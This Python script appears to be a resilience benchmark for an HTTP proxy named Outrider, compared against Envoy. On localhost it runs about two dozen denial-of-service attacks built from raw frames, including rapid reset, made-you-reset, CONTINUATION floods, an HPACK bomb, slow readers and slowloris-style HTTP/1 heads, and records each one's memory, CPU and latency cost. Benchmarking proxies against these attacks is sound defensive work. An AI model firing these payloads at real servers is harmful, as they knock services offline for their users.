#!/usr/bin/env python3
"""Attacks Outrider and Envoy with the same bytes, and measures what each attack costs them.

usage: attacks.py --outrider BIN [--envoy BIN] [--seconds 5] [-k WORD] [--docs] [--build TEXT]

For each attack: the proxy's CPU time, its largest memory above idle, and the p99 of a well-behaved client at the same time. The
memory of Outrider must stay within 30 MB; else the exit code is 1. --docs writes the table of docs/security.md. The attackers run in a
process of their own.
"""
import argparse
import http.client
import os
import selectors
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from load import Backends  # noqa: E402
from proxies import Proxy  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent.parent
MAX_MEMORY_MB = 30
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    """An HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(path, method=0x82):
    """A header block: the method, http, the authority `a` and the path."""
    return bytes([method, 0x86, 0x41, 1]) + b"a" + bytes([0x04, len(path)]) + path


def literal(name, value, index=False):
    """A header field."""
    size, rest = bytes([min(len(value), 127)]), len(value) - 127
    while rest >= 128:
        size, rest = size + bytes([rest % 128 + 128]), rest // 128
    size += bytes([rest]) if rest >= 0 else b""
    return bytes([0x40 if index else 0, len(name)]) + name + size + value


def streams(make, count=2000):
    """What `make` sends for each of `count` streams."""
    return b"".join(make(2 * number + 1) for number in range(count))


GET, POST, HANG = block(b"/small"), block(b"/small", 0x83), block(b"/stuck", 0x83)
OPEN = PREFACE + frame(4, 0, 0)
UPLOAD = OPEN + frame(1, 4, 1, HANG)


def h2(what, start, repeated, connections=20, reads=True):
    """An attack in HTTP/2: `repeated` is sent without end after `start`. Connections that end are opened again."""
    return {"what": what, "start": start, "repeated": repeated, "connections": connections, "reads": reads}


ATTACKS = {
    "rapid reset (CVE-2023-44487)": h2("HEADERS and RST_STREAM", OPEN + streams(lambda s: frame(1, 5, s, GET) + frame(3, 0, s, b"\0\0\0\x08")), b""),
    "made you reset (CVE-2025-8671)": h2("HEADERS and a WINDOW_UPDATE that overflows", OPEN + streams(lambda s: frame(1, 4, s, HANG) + frame(8, 0, s, b"\x7f\xff\xff\xff")), b""),
    "made you reset by content-length": h2("HEADERS with content-length 0 and a byte of DATA", OPEN + streams(lambda s: frame(1, 4, s, HANG + literal(b"content-length", b"0")) + frame(0, 0, s, b"x")), b""),
    "CONTINUATION flood": h2("a header block without end", OPEN + frame(1, 0, 1, GET), frame(9, 0, 1, b"")),
    "CONTINUATION with fields": h2("a header block of 16 KB frames", OPEN + frame(1, 0, 1, GET), frame(9, 0, 1, literal(b"x", b"y" * 100) * 150)),
    "SETTINGS flood": h2("empty SETTINGS", OPEN, frame(4, 0, 0)),
    "SETTINGS with many windows": h2("2,700 windows in a frame, 1,000 open streams, on 1 connection", OPEN + streams(lambda s: frame(1, 4, s, HANG), 1000), frame(4, 0, 0, b"\0\4\0\1\0\0\0\4\0\2\0\0" * 1350), connections=1),
    "PING flood": h2("PING", OPEN, frame(6, 0, 0, b"12345678")),
    "empty DATA": h2("DATA without data", UPLOAD, frame(0, 0, 1)),
    "DATA of one byte": h2("DATA of one byte", UPLOAD, frame(0, 0, 1, b"x")),
    "PRIORITY flood": h2("PRIORITY", OPEN, frame(2, 0, 1, b"\0\0\0\3\7")),
    "WINDOW_UPDATE flood": h2("WINDOW_UPDATE of one byte", OPEN, frame(8, 0, 0, b"\0\0\0\1")),
    "unknown frames": h2("frames of a type that nobody knows", OPEN, frame(77, 0, 0)),
    "HPACK bomb": h2("16,000 references to a field of 4 KB in each block", OPEN + frame(1, 5, 1, GET + literal(b"x", b"y" * 4000, True)), b"".join(frame(1, 5, s, GET + b"\xbe" * 16000) for s in range(3, 41, 2))),
    "cookie crumbs": h2("14,000 cookies of a byte in each block", OPEN, b"".join(frame(1, 5, s, GET + b"\x0f\x11\x01c" * 3500) for s in range(1, 41, 2))),
    "field names without end": h2("fields up to the limit, on each stream another name", OPEN, b"".join(frame(1, 5, s, GET + b"".join(literal(b"n%d-%d" % (s, i), b"v", True) for i in range(95))) for s in range(1, 101, 2))),
    "zero windows": h2("1,000 requests for 8 MB with windows of 0, on 1 connection", PREFACE + frame(4, 0, 0, b"\0\4\0\0\0\0") + streams(lambda s: frame(1, 5, s, block(b"/8m")), 1000), b"", connections=1),
    "slow reader, HTTP/2": h2("100 requests for 8 MB, nothing is read, on 1 connection", PREFACE + frame(4, 0, 0, b"\0\4\x7f\xff\xff\xff") + frame(8, 0, 0, b"\x7f\xfe\0\0") + streams(lambda s: frame(1, 5, s, block(b"/8m")), 100), b"", connections=1, reads=False),
    "slow upstream": h2("100 uploads to an upstream that does not read, on 1 connection", OPEN + streams(lambda s: frame(1, 4, s, HANG) + frame(0, 0, s, b"x" * 16384), 100), b"".join(frame(0, 0, s, b"x" * 16384) for s in range(1, 201, 2)), connections=1),
    "slow reader, HTTP/1": h2("a request for 8 MB, nothing is read, on 200 connections", b"GET /8m HTTP/1.1\r\nhost: a\r\n\r\n", b"", connections=200, reads=False),
    "pipelining without reading": h2("requests without end, nothing is read", b"", b"GET /small HTTP/1.1\r\nhost: a\r\n\r\n" * 100, reads=False),
    "slow heads": h2("50 KB of a head, and no more, on 200 connections", b"GET /small HTTP/1.1\r\nhost: a\r\n" + b"x: %s\r\n" % (b"y" * 1000) * 50, b"", connections=200),
    "many fields, HTTP/1": h2("heads with 20,000 fields", b"GET /small HTTP/1.1\r\nhost: a\r\n", b"a:\r\n" * 1000),
    "chunks of one byte": h2("chunks of one byte with an extension", b"POST /stuck HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n", b"1;a=b\r\nx\r\n" * 100),
    "an extension without end": h2("a chunk extension without end", b"POST /stuck HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n1;", b"a" * 1000),
}


class Attacker:
    """One connection of an attack."""

    def __init__(self, port, attack, poll):
        self.attack, self.poll = attack, poll
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setblocking(False)
        repeated = attack["repeated"]
        self.repeated = repeated * max(1, 65536 // len(repeated)) if repeated else b""
        self.left = memoryview(attack["start"] or self.repeated)
        poll.register(self.sock, selectors.EVENT_WRITE | (selectors.EVENT_READ if attack["reads"] else 0), self)

    def turn(self, events):
        """Sends and reads what is possible; False when the connection has ended."""
        try:
            if events & selectors.EVENT_READ and not self.sock.recv(1 << 16):
                return False
            if events & selectors.EVENT_WRITE and self.left:
                self.left = self.left[self.sock.send(self.left):]
        except BlockingIOError:
            return True
        except OSError:
            return False
        if not self.left:
            self.left = memoryview(self.repeated)
            if not self.repeated:
                wanted = selectors.EVENT_READ if self.attack["reads"] else 0
                if wanted:
                    self.poll.modify(self.sock, wanted, self)
                else:
                    self.poll.unregister(self.sock)
        return True

    def close(self):
        """Closes the connection."""
        try:
            self.poll.unregister(self.sock)
        except (KeyError, ValueError):
            pass
        self.sock.close()


def play(name, port, seconds):
    """Attacks for some seconds; prints how many connections were needed."""
    attack, poll = ATTACKS[name], selectors.DefaultSelector()
    opened, end = 0, time.monotonic() + seconds
    attackers = []
    for _ in range(attack["connections"]):
        attackers.append(Attacker(port, attack, poll))
        opened += 1
    while (now := time.monotonic()) < end:
        for key, events in poll.select(min(0.1, end - now)):
            if not key.data.turn(events):
                key.data.close()
                try:
                    key.data.__init__(port, attack, poll)
                    opened += 1
                except OSError:
                    time.sleep(0.01)
    print(opened)


def play_bytes(port, data):
    """Sends some bytes on a connection of their own, reads a little, and leaves."""
    with socket.create_connection(("127.0.0.1", port), 5) as sock:
        try:
            sock.sendall(data)
            sock.recv(1 << 16)
        except OSError:
            pass


class Stuck:
    """An upstream that accepts connections and reads nothing more than it must."""

    def __init__(self):
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=512)
        self.port = self.listener.getsockname()[1]
        self.kept = []
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        """Keeps what comes."""
        while True:
            self.kept.append(self.listener.accept()[0])


class Target(Proxy):
    """A proxy with a route to the upstream that does not read."""

    stuck = 0

    def config(self, backend, **how):
        made = super().config(backend, **how)
        resources = made["static_resources"]
        other = {"name": "stuck", "type": "STATIC", "connect_timeout": "5s", "load_assignment": {"cluster_name": "stuck", "endpoints": [
            {"lb_endpoints": [{"endpoint": {"address": {"socket_address": {"address": "127.0.0.1", "port_value": self.stuck}}}}]}]}}
        resources["clusters"].append(other)
        manager = resources["listeners"][0]["filter_chains"][0]["filters"][0]["typed_config"]
        manager["route_config"]["virtual_hosts"][0]["routes"].insert(0, {"match": {"prefix": "/stuck"}, "route": {"cluster": "stuck", "timeout": "0s"}})
        return made


class Client:
    """The well-behaved client: a request every 10 ms, on a connection that it keeps."""

    def __init__(self, port):
        self.port, self.times, self.failures = port, [], 0
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self.run)
        self.thread.start()

    def run(self):
        """Sends requests until it is stopped."""
        kept = None
        while not self.stopped.wait(0.01):
            began = time.monotonic()
            try:
                kept = kept or http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)
                kept.request("GET", "/small")
                kept.getresponse().read()
                self.times.append(time.monotonic() - began)
            except (OSError, http.client.HTTPException):
                self.failures += 1
                kept = None

    def stop(self):
        """The p99 in ms, and how many requests failed."""
        self.stopped.set()
        self.thread.join()
        times = sorted(self.times) or [float("inf")]
        return times[min(len(times) - 1, len(times) * 99 // 100)] * 1000, self.failures


def measure(name, proxy, seconds):
    """Runs an attack on a proxy that was idle."""
    process = proxy.process
    client = Client(proxy.port)
    time.sleep(0.5)
    idle, cpu = process.rss_kb(), process.cpu_ns()
    attacker = subprocess.Popen([sys.executable, __file__, "--play", name, "--port", str(proxy.port), "--seconds", str(seconds)], stdout=subprocess.PIPE, text=True)
    most = idle
    while attacker.poll() is None:
        most = max(most, process.rss_kb())
        time.sleep(0.05)
    p99, failures = client.stop()
    opened = attacker.stdout.read().strip()
    alive = process.child.poll() is None
    return {"cpu_s": (process.cpu_ns() - cpu) / 1e9, "memory_mb": (most - idle) / 1024, "p99_ms": p99, "failures": failures, "opened": opened or "?", "alive": alive}


def row(name, results):
    """A line of the table."""
    cells = [name, ATTACKS[name]["what"]]
    for one in results:
        died = "" if one["alive"] else " (ended)"
        failed = f", {one['failures']} failed" if one["failures"] else ""
        cells += [f"{one['memory_mb']:.1f}{died}", f"{one['cpu_s']:.2f}", f"{one['p99_ms']:.1f}{failed}", one["opened"]]
    return "| " + " | ".join(cells) + " |"


def write_docs(lines, seconds, build):
    """Puts the table between its marks in docs/security.md."""
    path = ROOT / "docs" / "security.md"
    text = path.read_text()
    begin, end = "<!-- attacks: written by `just attacks` -->\n", "<!-- end of attacks -->"
    before, after = text[:text.index(begin) + len(begin)], text[text.index(end):]
    note = f"\n\n{seconds} s each, one worker, {os.cpu_count()} CPUs; Outrider: {build}.\n"
    path.write_text(before + "\n".join(lines) + note + after)


def main():
    """The command line."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--outrider")
    parser.add_argument("--envoy")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("-k", dest="words", action="append")
    parser.add_argument("--docs", action="store_true")
    parser.add_argument("--build", default="release build")
    parser.add_argument("--play", help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    given = parser.parse_args()
    if given.play:
        return play(given.play, given.port, given.seconds)
    found = {"outrider": given.outrider, "envoy": given.envoy}
    found = {name: binary for name, binary in found.items() if binary}
    header = ["attack", "what is sent"] + [f"{name}: {what}" for name in found for what in ("MB above idle", "CPU s", "p99 ms", "connections")]
    lines = ["| " + " | ".join(header) + " |", "|---|---|" + "--:|" * (len(header) - 2)]
    print("\n".join(lines), flush=True)
    too_much = []
    with tempfile.TemporaryDirectory() as folder:
        backends = Backends(folder, None)
        Target.stuck = Stuck().port
        for name in ATTACKS:
            if given.words and not any(word in name for word in given.words):
                continue
            results = []
            for kind, binary in found.items():
                proxy = Target(kind, binary, folder, backends.h2_port, None, h2=True)
                try:
                    results.append(measure(name, proxy, given.seconds))
                finally:
                    proxy.stop()
            lines.append(row(name, results))
            print(lines[-1], flush=True)
            if "outrider" in found and (results[0]["memory_mb"] > MAX_MEMORY_MB or not results[0]["alive"]):
                too_much.append(name)
        backends.stop()
    if given.docs:
        write_docs(lines, given.seconds, given.build)
    if too_much:
        print("more than allowed:", ", ".join(too_much))
    return 1 if too_much else 0


if __name__ == "__main__":
    sys.exit(main())
